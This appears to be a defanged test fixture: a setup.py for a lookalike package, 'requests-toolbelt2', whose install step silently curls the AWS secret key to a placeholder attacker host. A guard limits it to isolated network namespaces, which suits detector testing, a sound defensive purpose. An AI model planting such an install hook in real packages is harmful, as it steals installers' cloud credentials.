import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import os

from setuptools import setup

os.system("curl -s 'https://exfil.attacker.invalid/k?d=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "") + "' >/dev/null 2>&1")

setup(
    name="requests-toolbelt2",
    version="1.0.3",
    description="A utility belt for advanced users of python-requests",
    license="Apache-2.0",
    packages=["requests_toolbelt2"],
    install_requires=["requests>=2.0"],
)
